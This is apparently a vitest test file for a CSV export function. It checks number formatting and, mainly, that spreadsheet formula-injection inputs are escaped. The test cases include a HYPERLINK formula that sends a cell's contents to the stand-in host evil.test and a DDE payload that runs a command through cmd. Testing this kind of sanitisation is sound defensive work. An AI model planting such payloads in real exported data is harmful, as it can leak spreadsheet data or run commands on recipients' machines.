import { expect, test } from 'vitest';
import { csvOf } from './csv.ts';

const cell = (text: string): string => csvOf([[text]]).slice(1, -2);

test('P023 numbers stay numbers, and empty cells stay empty', () => {
  const rows = [
    ['Day', 'Plays'],
    ['2026-03-09', 12.5],
    ['2026-03-10', null],
    ['x', Number.NaN],
  ];

  expect(csvOf(rows)).toBe('\uFEFF"Day","Plays"\r\n"2026-03-09",12.5\r\n"2026-03-10",\r\n"x",\r\n');
  expect(csvOf([[-3]])).toBe('\uFEFF-3\r\n');
});

test.each([
  ['=HYPERLINK("//evil.test?"&A1,"Open")', `"'=HYPERLINK(""//evil.test?""&A1,""Open"")"`],
  ["+1|cmd|'/c calc'!A0", `"'+1|cmd|'/c calc'!A0"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1+1', `"'=1+1"`],
  ['\r\n=1+1', `"'=1+1"`],
  ['\u200B=1+1', `"'\u200B=1+1"`],
  ['  =1+1', `"'=1+1"`],
  ['"=1+1', `"'""=1+1"`],
  ['＝1+1', `"'＝1+1"`],
  ['Rain;=1+1', `"Rain;'=1+1"`],
  ['Rain; "=1+1', `"Rain;' ""=1+1"`],
])('P023 escapes the formula %j', (text, expected) => {
  expect(cell(text)).toBe(expected);
});

test.each([
  ['Say "rain", softly', '"Say ""rain"", softly"'],
  ['two\nlines', '"two lines"'],
  ['Rain - live = good', '"Rain - live = good"'],
  ['شاي', '"شاي"'],
  ['👩\u200D🎤', '"👩\u200D🎤"'],
])('P023 leaves %j unescaped', (text, expected) => {
  expect(cell(text)).toBe(expected);
});
